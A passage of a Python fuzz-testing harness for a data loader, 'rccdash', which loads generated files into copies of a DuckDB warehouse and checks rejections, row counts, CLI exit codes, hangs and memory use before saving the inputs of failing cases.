    problems: list[str] = field(default_factory=list)
    seconds: float = 0.0
    cli: str = ""  # exit code and verdict of the CLI run, when there was one
    read: int = 0
    quarantined: int = 0


def classify(message: str) -> str:
    """The reason a rejection gives, as one of ``REASONS`` or ``other``."""
    for reason, pattern in REASONS:
        if re.search(pattern, message):
            return reason
    return "other"


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def profiles_once() -> None:
    """Parse the import profile once per worker, not once per load (YAML: 2/3 of a rejection).

    Only the fuzz workers do this (the tests patch it per test): a profile is a frozen
    dataclass and its file does not change during a run, so every load sees the same.
    """
    import etl.pipeline

    if not hasattr(etl.pipeline.load_profile, "cache_info"):
        etl.pipeline.load_profile = functools.lru_cache(maxsize=None)(etl.pipeline.load_profile)


def run_case(base: Base, case: Case, work: Path, *, cli: bool = False) -> Result:
    """Load the case into a fresh copy of the base warehouse and check what happened."""
    import duckdb

    from etl.pipeline import LoadOptions, load_paths

    result = Result(case.index, case.name, case.steps)
    shutil.rmtree(work, ignore_errors=True)
    (work / "in").mkdir(parents=True)
    db = work / "w.duckdb"
    shutil.copyfile(base.db, db)
    before = _sha(db)
    path = work / "in" / case.name
    path.write_bytes(case.data)
    started = time.perf_counter()
    try:
        outcomes = load_paths(db, [path], LoadOptions(report=False))
    except Exception as exc:  # the one thing that must never happen
        result.outcome = "crash"
        result.message = f"{type(exc).__name__}: {exc}"[:500]
        result.problems.append("exception escaped the loader:\n" + traceback.format_exc())
        result.seconds = time.perf_counter() - started
        return result
    result.seconds = time.perf_counter() - started
    if len(outcomes) != 1:
        result.problems.append(f"{len(outcomes)} outcomes for one file")
    outcome = outcomes[0]
    result.message = outcome.message[:500]
    leftovers = [p.name for p in work.glob(".w.duckdb.next-*")]
    if leftovers:
        result.problems.append(f"staging files left behind: {leftovers}")
    if re.search(INTERNAL, outcome.message):
        result.problems.append(f"the message shows an internal failure: {outcome.message[:500]}")
    if outcome.status in ("rejected", "skipped"):
        result.outcome = (
            f"rejected:{classify(outcome.message)}" if outcome.status == "rejected" else "skipped"
        )
        if _sha(db) != before:
            result.problems.append(f"warehouse changed although the file was {outcome.status}")
        if outcome.status == "rejected" and not outcome.message.strip():
            result.problems.append("rejected without a message")
    elif outcome.status == "loaded":
        result.read, result.quarantined = outcome.read, outcome.quarantined
        result.outcome = "loaded_with_quarantine" if outcome.quarantined else "loaded"
        parts = (outcome.loaded, outcome.duplicate, outcome.quarantined, outcome.dropped)
        if outcome.read != sum(parts):
            result.problems.append(f"read {outcome.read} != loaded+dup+quar+dropped {parts}")
        with duckdb.connect(str(db), read_only=True) as con:
            recorded = con.execute(
                "SELECT rows_read, rows_loaded, rows_duplicate, rows_quarantined, rows_dropped"
                " FROM etl_load WHERE load_id = ?",
                [outcome.load_id],
            ).fetchone()
            held = con.execute(
                "SELECT count(*) FROM etl_quarantine WHERE load_id = ?", [outcome.load_id]
            ).fetchone()[0]
            table = FACT_TABLES.get(outcome.kind)
            landed = (
                con.execute(
                    f"SELECT count(*) FROM {table} WHERE load_id = ?", [outcome.load_id]
                ).fetchone()[0]
                if table
                else outcome.loaded
            )
        if recorded is None or tuple(recorded) != (outcome.read, *parts):
            result.problems.append(
                f"etl_load says {recorded}, the run said {(outcome.read, *parts)}"
            )
        if held != outcome.quarantined:
            result.problems.append(f"{held} rows in etl_quarantine, {outcome.quarantined} counted")
        if landed != outcome.loaded:
            result.problems.append(f"{landed} rows in {table}, {outcome.loaded} counted loaded")
    else:
        result.outcome = f"status:{outcome.status}"
        result.problems.append(f"unknown status {outcome.status!r}")
    if cli:
        result.cli = _cli_check(base, case, work, path, outcome, result)
    return result


def _cli_check(base: Base, case: Case, work: Path, path: Path, outcome, result: Result) -> str:
    """Load the same file with ``rccdash load`` in its own process; note any disagreement."""
    from rccdash.cli import _one_line

    db = work / "cli" / "w.duckdb"
    db.parent.mkdir()
    shutil.copyfile(base.db, db)
    before = _sha(db)
    env = {**os.environ, "GX_ANALYTICS_ENABLED": "false", "COLUMNS": "140"}
    try:
        run = subprocess.run(
            [*RCCDASH, "load", str(path), "--db", str(db), "--no-report"],
            capture_output=True,
            timeout=600,
            cwd=ROOT,
            env=env,
        )
    except subprocess.TimeoutExpired:
        result.problems.append("rccdash load ran over 600 s")
        return "timeout"
    out = (run.stdout + run.stderr).decode("utf-8", "replace")
    code = run.returncode
    if code not in (0, 1, 2):
        result.problems.append(f"rccdash load exited {code}:\n{out[-3000:]}")
    if "Traceback" in out or "internal error" in out:
        result.problems.append(f"rccdash load printed a traceback:\n{out[-3000:]}")
    expected = {"loaded": 0, "skipped": 0, "rejected": 1}.get(outcome.status)
    if code != expected:
        result.problems.append(
            f"rccdash load exited {code}; in-process the file was {outcome.status}"
        )
    if outcome.status == "rejected":
        if _sha(db) != before:
            result.problems.append(
                "rccdash load changed the warehouse although it rejected the file"
            )
        names = (_one_line(str(path)), _one_line(path.name))
        lines = [line for line in out.splitlines() if line.startswith(names)]
        if not lines:
            result.problems.append(
                f"no line of rccdash load's output names the file:\n{out[-3000:]}"
            )
    return f"exit {code}"


# --------------------------------------------------------------------------- the driver


def _worker(base: Base, seed: int, work: str, tasks, results, cli_every: int) -> None:
    """Run cases from ``tasks`` until told to stop; say when each starts and what it did."""
    profiles_once()
    for index in iter(tasks.get, None):
        results.put(("start", os.getpid(), index, time.monotonic()))
        case = make_case(base, seed, index)
        cli = cli_every > 0 and index % cli_every == 0
        try:
            result = run_case(base, case, Path(work) / str(os.getpid()), cli=cli)
        except Exception:  # the checks themselves failed: report, keep going
            result = Result(index, case.name, case.steps, outcome="checker_error")
            result.problems.append(traceback.format_exc())
        results.put(("done", os.getpid(), index, asdict(result)))
        shutil.rmtree(Path(work) / str(os.getpid()), ignore_errors=True)


def run_all(base: Base, args: argparse.Namespace, work: Path) -> list[dict]:
    """Run the cases in ``args.workers`` processes; kill and replace one stuck on a case."""
    context = multiprocessing.get_context("spawn")
    tasks, results = context.Queue(), context.Queue()
    for index in range(args.cases):
        tasks.put(index)
    workers: dict[int, multiprocessing.Process] = {}
    running: dict[int, tuple[int, float]] = {}  # pid -> (case, started)

    def spawn() -> None:
        process = context.Process(
            target=_worker,
            args=(base, args.seed, str(work), tasks, results, args.cli_every),
            daemon=True,
        )
        process.start()
        workers[process.pid] = process

    for _ in range(args.workers):
        spawn()
    done: list[dict] = []
    shown = time.monotonic()
    while len(done) < args.cases:
        try:
            message = results.get(timeout=1)
        except queue.Empty:
            message = None
        if message and message[0] == "start":
            running[message[1]] = (message[2], message[3])
        elif message and message[0] == "done":
            running.pop(message[1], None)
            done.append(message[3])
        now = time.monotonic()
        for pid, process in list(workers.items()):
            if pid not in running and not process.is_alive():  # died between cases
                del workers[pid]
                spawn()
        for pid, (index, since) in list(running.items()):
            process = workers[pid]
            rss = _rss_gb(pid)
            if now - since > args.timeout or rss > args.max_rss_gb or not process.is_alive():
                verdict = (
                    "worker died"
                    if not process.is_alive()
                    else f"memory over {args.max_rss_gb} GB"
                    if rss > args.max_rss_gb
                    else "hang"
                )
                process.kill()  # a worker this run started
                process.join()
                del running[pid], workers[pid]
                case = make_case(base, args.seed, index)
                result = Result(index, case.name, case.steps, outcome=verdict)
                result.problems.append(f"{verdict} after {now - since:.0f} s")
                done.append(asdict(result))
                spawn()
        if now - shown > 30:
            shown = now
            print(f"  {len(done):,} of {args.cases:,} cases", flush=True)
    for _ in workers:
        tasks.put(None)
    for process in workers.values():
        process.join(timeout=30)
    return sorted(done, key=lambda r: r["index"])


def _rss_gb(pid: int) -> float:
    """The resident memory of a process, in GB (0 when it is gone or unknown)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0.0
    found = re.search(r"VmRSS:\s+(\d+) kB", status)
    return int(found.group(1)) / 2**20 if found else 0.0


def summarise(results: list[dict]) -> dict:
    """Outcome counts, rejection reasons, CLI exit codes, failures and the slowest cases."""
    counts = Counter(r["outcome"].split(":")[0] for r in results)
    reasons = Counter(r["outcome"].split(":", 1)[1] for r in results if ":" in r["outcome"])
    failures = [r for r in results if r["problems"]]
    others = Counter(r["message"][:160] for r in results if r["outcome"] == "rejected:other")
    return {
        "cases": len(results),
        "outcomes": dict(counts.most_common()),
        "rejected_by_reason": dict(reasons.most_common()),
        "rejected_other_messages": dict(others.most_common(20)),
        "cli_runs": dict(Counter(r["cli"] for r in results if r["cli"]).most_common()),
        "failures": failures,
        "slowest": [
            {k: r[k] for k in ("index", "name", "steps", "outcome", "seconds")}
            for r in sorted(results, key=lambda r: -r["seconds"])[:10]
        ],
        "rows_read": sum(r["read"] for r in results),
        "rows_quarantined": sum(r["quarantined"] for r in results),
    }


def main() -> dict:
    """Run the cases and print the counts; results also go to bench/results/."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--cases", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=int(time.time()) % 100_000)
    parser.add_argument("--workers", type=int, default=min(os.cpu_count() or 1, 4))
    parser.add_argument("--cli-every", type=int, default=100, help="0: no CLI runs")
    parser.add_argument("--timeout", type=float, default=300, help="seconds one case may take")
    parser.add_argument("--max-rss-gb", type=float, default=4.0, help="memory one case may take")
    parser.add_argument("--case", type=int, help="replay one case and keep its input")
    args = parser.parse_args()
    stamp = time.strftime("%Y%m%d-%H%M%S")
    with tempfile.TemporaryDirectory(prefix="rccdash-fuzz-") as tmp:
        work = Path(tmp)
        base = prepare(work / "base")
        if args.case is not None:
            return _replay(base, args, work, stamp)
        print(f"fuzzing the loader: {args.cases:,} cases, seed {args.seed}, {args.workers} workers")
        started = time.monotonic()
        results = run_all(base, args, work / "cases")
        seconds = time.monotonic() - started
        summary = {"seed": args.seed, "workers": args.workers, "seconds": round(seconds, 1)}
        summary |= summarise(results)
        saved = _save_inputs(base, args.seed, summary["failures"], stamp)
    _print(summary, saved)
    summary["pass"] = not summary["failures"]
    RESULTS.mkdir(parents=True, exist_ok=True)
    out = RESULTS / f"fuzz-{stamp}.json"
    out.write_text(json.dumps(summary, indent=2, ensure_ascii=False))
    print(f"-> {out.relative_to(ROOT)}")
    return summary


def _replay(base: Base, args: argparse.Namespace, work: Path, stamp: str) -> dict:
    """``--case N``: run one case (CLI too), print it and keep its input file."""
    profiles_once()
    case = make_case(base, args.seed, args.case)
    result = run_case(base, case, work / "case", cli=True)
    kept = _save_inputs(base, args.seed, [asdict(result)], stamp, always=True)
    print(json.dumps(asdict(result), indent=2, ensure_ascii=False))
    print(f"input: {kept[0] if kept else '-'}")
    return {"pass": not result.problems}


def _save_inputs(
    base: Base, seed: int, failures: list[dict], stamp: str, *, always: bool = False
) -> list[str]:
    """Write the input of each failing case, so it can be loaded by hand."""
    if not failures and not always:
        return []
    folder = RESULTS / f"fuzz-{stamp}-inputs"
    folder.mkdir(parents=True, exist_ok=True)
    saved = []
    for failure in failures[:200]:
        case = make_case(base, seed, failure["index"])
        safe = re.sub(r"[^\w.-]", "_", case.name)
        path = folder / f"case-{case.index}-{safe}"
        path.write_bytes(case.data)
        failure["input"] = str(path.relative_to(ROOT))
        saved.append(failure["input"])
    return saved


def _print(summary: dict, saved: list[str]) -> None:
    rejected = sum(summary["rejected_by_reason"].values())
    outcomes = summary["outcomes"]
    print(
        f"{summary['cases']:,} cases in {summary['seconds']:,} s:"
        f" {outcomes.get('loaded', 0):,} loaded,"
        f" {outcomes.get('loaded_with_quarantine', 0):,} loaded with quarantine,"
        f" {rejected:,} rejected, {outcomes.get('skipped', 0):,} skipped"
    )
    for reason, n in summary["rejected_by_reason"].items():
        print(f"  rejected, {reason}: {n:,}")
    other = set(outcomes) - {"loaded", "loaded_with_quarantine", "rejected", "skipped"}
    for name in sorted(other):
        print(f"  {name}: {outcomes[name]:,}")
    print(f"rows read {summary['rows_read']:,}, quarantined {summary['rows_quarantined']:,}")
    print(f"CLI runs: {summary['cli_runs']}")
    for failure in summary["failures"][:20]:
        print(f"  FAIL case {failure['index']} {failure['name']!r} {failure['steps']}:")
        print("    " + "\n    ".join(failure["problems"][0].splitlines()[-6:]))
    if saved:
        print(f"inputs of failing cases: {Path(saved[0]).parent}")
    print(f"{'PASS' if not summary['failures'] else 'FAIL'}: {len(summary['failures'])} failures")


if __name__ == "__main__":
    sys.exit(0 if main()["pass"] else 1)
